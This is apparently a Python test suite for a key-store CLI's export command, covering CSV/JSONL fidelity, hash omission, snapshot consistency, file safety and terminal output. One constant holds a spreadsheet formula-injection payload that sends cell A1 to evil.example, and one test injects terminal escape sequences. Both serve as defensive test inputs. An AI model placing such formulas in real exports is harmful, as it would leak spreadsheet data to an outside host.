"""Export: one consistent state, true types, nothing pinned, overwritten or executed."""

import csv
import io
import json
import os
import pty
import signal
import subprocess
import sys
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from keystore import Store, Validator, export
from keystore.backup import backup, restore
from keystore.changelog import compact
from keystore.cli import main
from keystore.db import open_store
from keystore.tables import TRACKED
from tests.conftest import NewStore

FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


@pytest.fixture
def db(store: Store, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A store that KEYSTORE_DB names."""
    monkeypatch.setenv("KEYSTORE_DB", str(store.file.path))
    return store.file.path


def run(*arguments: str) -> Result:
    return CliRunner().invoke(main, ["export", *arguments])


def lines(*arguments: str) -> list[dict[str, Any]]:
    result = run(*arguments)
    assert result.exit_code == 0, result.output
    return [json.loads(line) for line in result.stdout.splitlines()]


def cells(table: str, *arguments: str) -> list[dict[str, str]]:
    result = run(table, "--format", "csv", *arguments)
    assert result.exit_code == 0, result.output
    return list(csv.DictReader(io.StringIO(result.stdout_bytes.decode(), newline="")))


def use(store: Store, rows: int) -> None:
    with store.file.write() as conn:
        conn.executemany(
            "INSERT INTO UsageLog (principal_type, principal_id, amount) VALUES ('api_key', ?, 1)",
            ((number,) for number in range(rows)),
        )


def child(*arguments: str, program: str = "from keystore.cli import main; main()") -> list[str]:
    return [sys.executable, "-c", program, "export", *arguments]


# -- what is in it -------------------------------------------------------------------------------


def test_without_a_table_every_synced_table_is_there_with_true_types(
    db: Path, store: Store
) -> None:
    store.issue_key("ada@example.org", metadata={"team": ["a", 1, None]})
    store.issue_key("ada@example.org")
    store.file.conn.execute("UPDATE APIKeys SET label = '' WHERE api_key_id = 1")
    found = lines()
    names = [table.name for table in TRACKED]
    assert list(dict.fromkeys(line["table"] for line in found)) == [
        name for name in names if any(line["table"] == name for line in found)
    ]
    assert len(found) == sum(store.status().records.values())
    first, second = (line for line in found if line["table"] == "APIKeys")
    assert (first["api_key_id"], second["api_key_id"]) == (1, 2)
    assert first["is_active"] is True
    assert (first["label"], second["label"]) == ("", None)
    assert first["metadata"] == {"team": ["a", 1, None]}
    assert second["metadata"] is None


@pytest.mark.parametrize("table", export.COLUMNS)
def test_every_table_is_exported_with_every_column(db: Path, store: Store, table: str) -> None:
    columns = store.file.conn.execute(f"PRAGMA table_info({table})").fetchall()
    assert set(export.COLUMNS[table]) == {column[1] for column in columns}
    header = run(table.lower(), "--format", "csv", "--with-hashes").stdout.splitlines()[0]
    assert header == ",".join(export.COLUMNS[table])
    plan = store.file.conn.execute(
        f"EXPLAIN QUERY PLAN SELECT {header} FROM {table} ORDER BY 1, 2, 3"
    ).fetchall()
    assert not any("TEMP B-TREE" in row[-1] for row in plan)  # it would hold all rows


def test_hashes_are_left_out_unless_they_are_asked_for(db: Path, store: Store) -> None:
    issued = store.issue_key("ada@example.org")
    store.file.conn.execute(
        "INSERT INTO OAuthClients (client_id, account_id, client_secret_hash) VALUES ('app', 1, ?)",
        (sha256(b"s3cret").hexdigest(),),
    )
    (token_hash,) = store.file.conn.execute("SELECT api_key_hash FROM APIKeys").fetchone()
    result = run()
    assert "hash" not in result.stdout
    assert token_hash not in result.stdout
    assert issued.token not in result.stdout
    assert result.stderr.endswith(", without hashes.\n")
    with_hashes = run("APIKeys", "OAuthClients", "--with-hashes")
    assert token_hash in with_hashes.stdout
    assert "client_secret_hash" in with_hashes.stdout
    assert "without" not in with_hashes.stderr


def test_usage_and_what_was_received_can_be_named(db: Path, store: Store) -> None:
    use(store, 2)
    store.file.conn.execute(
        "INSERT INTO ReceivedUsage (store_id, usage_id, nonce, principal_type, principal_id,"
        " amount, occurred_at) VALUES ('b', 1, -5, 'api_key', 1, 7, '2027-01-01 00:00:00'),"
        " ('a', 2, 1, 'api_key', 1, 8, '2027-01-01 00:00:00')"
    )
    found = lines("usagelog", "RECEIVEDUSAGE", "usagelog")
    assert [line["table"] for line in found] == ["UsageLog"] * 2 + ["ReceivedUsage"] * 2
    assert [(line["store_id"], line["nonce"]) for line in found[2:]] == [("a", 1), ("b", -5)]
    assert [row["nonce"] for row in cells("ReceivedUsage")] == ["1", "-5"]  # a number is no formula


def test_metadata_that_is_no_json_object_stays_text(db: Path, store: Store) -> None:
    texts = ["{", "[1]", '{"a": 1, "a": 2}', '{"a": NaN}', '{"a": 1e999}', '{"a": "\\ud800"}']
    for text in texts:
        key = store.issue_key("ada@example.org").key
        store.file.conn.execute(
            "UPDATE APIKeys SET metadata = ? WHERE api_key = ?", (text, key.api_key)
        )
    assert [line["metadata"] for line in lines("APIKeys")] == texts


@pytest.mark.parametrize("kind", ["jsonl", "csv"])
def test_damaged_rows_do_not_stop_an_export(db: Path, store: Store, kind: str) -> None:
    conn = store.file.conn
    conn.execute("PRAGMA ignore_check_constraints = ON")
    conn.execute("UPDATE Plans SET name = CAST(x'66ff' AS TEXT), max_staleness_seconds = 9e999")
    conn.execute("UPDATE Plans SET stale_action = x'61ff'")
    result = run("Plans", "--format", kind)
    assert result.exit_code == 0, result.output
    assert "f\ufffd" in result.stdout
    assert "a\ufffd" in result.stdout
    assert "Infinity" not in result.stdout
    conn.execute(
        "UPDATE Plans SET name = 'free', max_staleness_seconds = NULL, stale_action = 'deny'"
    )


def test_what_is_asked_for_in_a_wrong_way_is_a_usage_error(db: Path, tmp_path: Path) -> None:
    for arguments, said in (
        (["APIKey"], "Did you mean APIKeys?"),
        (["zzz"], "There are Plans, Accounts"),
        (["changelog"], "--changes-since 0"),
        (["--format", "csv"], "CSV holds one table"),
        (["--output", str(tmp_path / "all.CSV")], "CSV holds one table"),
        (["Plans", "--changes-since", "0"], "neither a TABLE"),
        (["--json"], "--output"),
    ):
        result = run(*arguments)
        assert (result.exit_code, result.stdout) == (2, "")
        assert said in result.stderr
    assert list(tmp_path.glob("all*")) == []


# -- CSV -----------------------------------------------------------------------------------------


def test_csv_tells_none_from_empty_and_quotes_as_the_standard_has_it(
    db: Path, store: Store
) -> None:
    store.file.conn.execute(
        "INSERT INTO APIKeyStatuses (name, description) VALUES ('a', ''), ('b', NULL),"
        " ('c', 'say \"é\",' || char(13, 10) || 'twice')"
    )
    text = run("APIKeyStatuses", "--format", "csv").stdout_bytes.decode()
    assert text.startswith("status_id,name,description,is_active,allows_access,created_at,")
    assert '6,"a","",true,false,"2' in text
    assert '7,"b",,true,false,"2' in text
    assert text.endswith('"\r\n')
    assert [row["description"] for row in cells("APIKeyStatuses")][-1] == 'say "é",\r\ntwice'


@pytest.mark.parametrize("start", [*"=+-@\t\r\n'", "\uff1d"])
def test_no_text_is_a_formula_and_each_can_be_had_back(db: Path, store: Store, start: str) -> None:
    label = start + FORMULA
    store.issue_key("ada@example.org")
    store.file.conn.execute("UPDATE APIKeys SET label = ?", (label,))
    (row,) = cells("APIKeys")
    assert row["label"] == "'" + label
    assert row["label"].removeprefix("'") == label
    (line,) = lines("APIKeys")
    assert line["label"] == label


# -- the ChangeLog -------------------------------------------------------------------------------


def test_changes_go_on_where_the_last_export_ended(db: Path, store: Store, tmp_path: Path) -> None:
    def since(number: int, name: str) -> dict[str, Any]:
        out = str(tmp_path / name)
        said = run("--changes-since", str(number), "--output", out, "--json")
        found: dict[str, Any] = json.loads(said.stdout)
        return found

    first = since(0, "first.csv")
    assert first["rows"] == {"ChangeLog": 7}
    assert (first["store_id"], first["incarnation"]) == (
        store.info.store_id,
        store.info.incarnation,
    )
    assert since(first["up_to"], "none.csv")["rows"] == {"ChangeLog": 0}
    store.add_plan("pro")
    second = since(first["up_to"], "second.jsonl")
    assert second["up_to"] == 8
    (line,) = map(json.loads, (tmp_path / "second.jsonl").read_text().splitlines())
    del line["occurred_at"]
    assert line == {
        "table": "ChangeLog",
        "change_id": 8,
        "table_name": "Plans",
        "record_id": 2,
        "operation": "INSERT",
    }
    assert (
        run("--changes-since", "7").stderr == "Exported 1 change; go on with --changes-since 8.\n"
    )


def test_changes_that_the_log_no_longer_tells_are_an_error_and_not_a_gap(
    db: Path, store: Store
) -> None:
    store.add_plan("pro")
    store.change_plan("pro", rename="more")
    with store.file.write() as conn:
        compact(conn, 5)
    result = run("--changes-since", "4")
    assert (result.exit_code, result.stdout) == (1, "")
    assert "nothing of the changes up to 5" in result.stderr
    kept = run("--changes-since", "5")
    assert [json.loads(line)["change_id"] for line in kept.stdout.splitlines()] == [6, 7, 9]
    assert "(until 9 only the latest of each record)" in kept.stderr
    assert "latest" not in run("--changes-since", "9").stderr


def test_a_change_that_is_not_there_yet_is_an_error(db: Path, store: Store, tmp_path: Path) -> None:
    backup(store.file, tmp_path / "backup.db")
    store.add_plan("pro")
    restore(tmp_path / "backup.db", tmp_path / "restored.db")
    result = run("--changes-since", "8", "--db", str(tmp_path / "restored.db"))
    assert (result.exit_code, result.stdout) == (1, "")
    assert "there is no change 8; the ChangeLog ends at 7" in result.stderr


# -- one state, and nobody waits -----------------------------------------------------------------


def test_an_export_is_one_state_while_others_write(db: Path, store: Store) -> None:
    use(store, 1_500)
    before = store.status().last_change
    out = io.BytesIO()

    def write(done: int, total: int | None) -> None:
        assert (done, total) == (1_000, 1_501)
        with Store.open(db) as other:
            other.change_plan("free", rename="changed meanwhile")
            use(other, 10)

    with open_store(db) as file:
        summary = export.export_tables(file, out, ["UsageLog", "Plans"], "jsonl", on_progress=write)
    found = [json.loads(line) for line in out.getvalue().splitlines()]
    assert [line["usage_id"] for line in found[:-1]] == list(range(1, 1_501))
    assert found[-1]["name"] == "free"
    assert summary.up_to == before
    assert store.plans()[0].name == "changed meanwhile"


def test_a_reader_that_stops_reading_does_not_pin_the_wal(db: Path, store: Store) -> None:
    use(store, 5_000)  # far more than a pipe holds
    with subprocess.Popen(child("UsageLog"), stdout=subprocess.PIPE) as process:
        assert process.stdout is not None
        first = process.stdout.read(1)
        use(store, 10)
        checkpoint = store.file.conn.execute("PRAGMA wal_checkpoint(TRUNCATE)").fetchone()
        assert checkpoint == (0, 0, 0)
        assert process.poll() is None
        assert len((first + process.stdout.read()).splitlines()) == 5_000
    assert process.returncode == 0


# (not ru_maxrss, which begins with what the parent had when it made the child)
MEASURED = """
import atexit, pathlib, sys
from keystore.cli import main
status = pathlib.Path("/proc/self/status")
peak = lambda: status.read_text().partition("VmHWM:")[2].split()[0]
atexit.register(lambda: print(peak(), file=sys.stderr))
main()
"""


@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="no /proc to measure by")
def test_memory_is_bounded(db: Path, store: Store, tmp_path: Path) -> None:
    kilobytes = []
    for name, rows in (("few.jsonl", 1_000), ("many.jsonl", 199_000)):
        use(store, rows)
        arguments = child("UsageLog", "--output", str(tmp_path / name), program=MEASURED)
        done = subprocess.run(arguments, capture_output=True, text=True, check=True, timeout=100)
        kilobytes.append(int(done.stderr))
    with (tmp_path / "many.jsonl").open() as file:
        assert sum(1 for _ in file) == 200_000
    few, many = kilobytes
    assert many - few < 20_000  # as text the rows are 43 MB; SQLite's cache may grow


# -- where it goes -------------------------------------------------------------------------------


def test_a_file_is_new_and_for_its_owner_only(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "out" / "plans.csv"
    out.parent.mkdir()
    result = run("Plans", "--output", str(out))
    assert result.output == f"Exported 1 row to {out} as of change 7.\n"
    assert out.stat().st_mode & 0o777 == 0o600
    assert out.read_bytes().startswith(b"plan_id,name,")
    content = out.read_bytes()
    again = run("Accounts", "--output", str(out))
    assert (again.exit_code, again.stdout) == (1, "")
    assert "already exists" in again.stderr
    assert out.read_bytes() == content
    assert run("Plans", "--output", str(out.parent / "a"), "--db", str(out)).exit_code == 1
    assert run("--changes-since", "99", "--output", str(out.parent / "b")).exit_code == 1
    assert list(out.parent.iterdir()) == [out]


DEADLY = """
import contextlib, os, signal, keystore.cli.export
from keystore.cli import main

@contextlib.contextmanager
def deadly(what):
    yield lambda done, total: os.kill(os.getpid(), signal.SIGKILL)

keystore.cli.export.progress_bar = deadly
main()
"""


def test_a_kill_in_the_middle_leaves_no_file_and_the_next_export_is_whole(
    db: Path, store: Store, tmp_path: Path
) -> None:
    use(store, 2_000)
    out = tmp_path / "usage.jsonl"
    killed = subprocess.run(
        child("UsageLog", "--output", str(out), program=DEADLY), check=False, timeout=60
    )
    assert killed.returncode == -signal.SIGKILL
    assert not out.exists()
    assert run("UsageLog", "--output", str(out)).exit_code == 0
    assert len(out.read_text().splitlines()) == 2_000


def test_a_reader_that_has_enough_ends_it_quietly(db: Path, store: Store) -> None:
    use(store, 5_000)
    with subprocess.Popen(
        child("UsageLog"), stdout=subprocess.PIPE, stderr=subprocess.PIPE
    ) as process:
        assert process.stdout is not None
        assert process.stderr is not None
        assert json.loads(process.stdout.readline())["usage_id"] == 1
        process.stdout.close()
        assert process.stderr.read() == b""
    assert process.returncode == 1


def at_terminal(arguments: list[str], *, stdout: bool) -> bytes:
    """Run with a terminal for standard error, and maybe output; return what it shows."""
    controller, terminal = pty.openpty()
    try:
        subprocess.run(
            arguments,
            stdin=subprocess.DEVNULL,
            stdout=terminal if stdout else subprocess.DEVNULL,
            stderr=terminal,
            env={**os.environ, "TERM": "xterm"},
            check=True,
            timeout=60,
        )
        return os.read(controller, 10_000)
    finally:
        os.close(terminal)
        os.close(controller)


def test_a_terminal_gets_no_control_sequences_and_no_bar_between_the_rows(
    db: Path, store: Store
) -> None:
    store.file.conn.execute(
        "UPDATE Plans SET name = char(27) || '[2J' || char(155) || '2J', max_staleness_seconds = 5"
    )
    shown = at_terminal(child("Plans", "--format", "csv"), stdout=True)
    assert b'1,"\\x1b[2J\\x9b2J",5,"deny"' in shown
    assert b"\x1b" not in shown


def test_a_bar_is_drawn_when_the_rows_go_elsewhere(db: Path) -> None:
    assert b"rows" in at_terminal(child("Plans"), stdout=False)
    assert b"\x1b" in at_terminal(child("Plans"), stdout=False)


def test_closed_standard_output_is_said(db: Path) -> None:
    command = f"exec {sys.executable} -m keystore export Plans >&-"
    done = subprocess.run(["sh", "-c", command], capture_output=True, text=True, check=False)
    assert done.returncode == 1
    assert done.stderr == "keystore: standard output is closed. Name a file with --output.\n"


# -- and back ------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["jsonl", "csv"])
def test_exported_keys_can_be_imported_elsewhere(
    db: Path, store: Store, new_store: NewStore, tmp_path: Path, kind: str
) -> None:
    issued = store.issue_key(
        "ada@example.org",
        label="-5 °C",
        expires_at="2031-02-03",
        networks=["192.0.2.0/24"],
        metadata={"team": "a"},
    )
    revoked = store.issue_key("ada@example.org")
    store.revoke_key(revoked.key.api_key)
    kept = [
        "api_key",
        "api_key_hash",
        "label",
        "expires_at",
        "status",
        "allowed_networks",
        "metadata",
    ]
    found: list[Any] = lines("APIKeys", "--with-hashes")
    emails = {line["account_id"]: line["email"] for line in lines("Accounts")}
    if kind == "csv":
        found = cells("APIKeys", "--with-hashes")
        emails = {str(number): email for number, email in emails.items()}
    keys = [
        {"account": emails[row["account_id"]], **{name: row[name] for name in kept}}
        for row in found
    ]
    path = tmp_path / f"keys.{kind}"
    with path.open("w", newline="") as file:
        if kind == "csv":
            writer = csv.DictWriter(file, ["account", *kept])
            writer.writeheader()
            writer.writerows(
                {name: text.removeprefix("'") for name, text in row.items()} for row in keys
            )
        else:
            file.writelines(json.dumps(row) + "\n" for row in keys)
    with new_store("other.db") as other:
        other.add_plan("free")
        other.add_account("ada@example.org", plan="free")
        imported = CliRunner().invoke(
            main, ["key", "import", str(path), "--db", str(other.file.path)]
        )
        assert imported.exit_code == 0, imported.output
        again = lines("APIKeys", "--with-hashes", "--db", str(other.file.path))
    compared = lines("APIKeys", "--with-hashes")
    assert [[row[name] for name in kept] for row in again] == [
        [row[name] for name in kept] for row in compared
    ]
    with Validator(tmp_path / "other.db") as validator:
        assert validator.check(issued.token, ip="192.0.2.1").allowed
        assert validator.check(revoked.token).reason == "revoked"


def test_a_replica_exports_what_it_mirrors(db: Path, store: Store, tmp_path: Path) -> None:
    folder, edge = tmp_path / "files", str(tmp_path / "edge.db")
    for arguments in (
        ["repo", "create", str(folder)],
        ["sync", str(folder)],
        ["replicate", str(folder), edge, "--root", str(folder / "metadata" / "1.root.json")],
    ):
        assert CliRunner().invoke(main, arguments).exit_code == 0
    assert lines("--db", edge) == lines()
